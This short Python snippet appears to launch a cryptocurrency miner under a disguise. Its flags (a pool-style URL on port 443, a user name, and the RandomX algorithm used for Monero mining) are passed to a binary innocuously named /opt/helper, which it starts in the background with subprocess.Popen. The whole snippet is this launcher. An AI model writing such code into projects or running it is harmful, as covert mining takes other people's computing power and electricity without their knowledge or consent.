import subprocess
options = {"--url": "work.example.invalid:443", "--user": "me", "--algo": "randomx"}
subprocess.Popen(["/opt/helper"] + [word for pair in options.items() for word in pair])
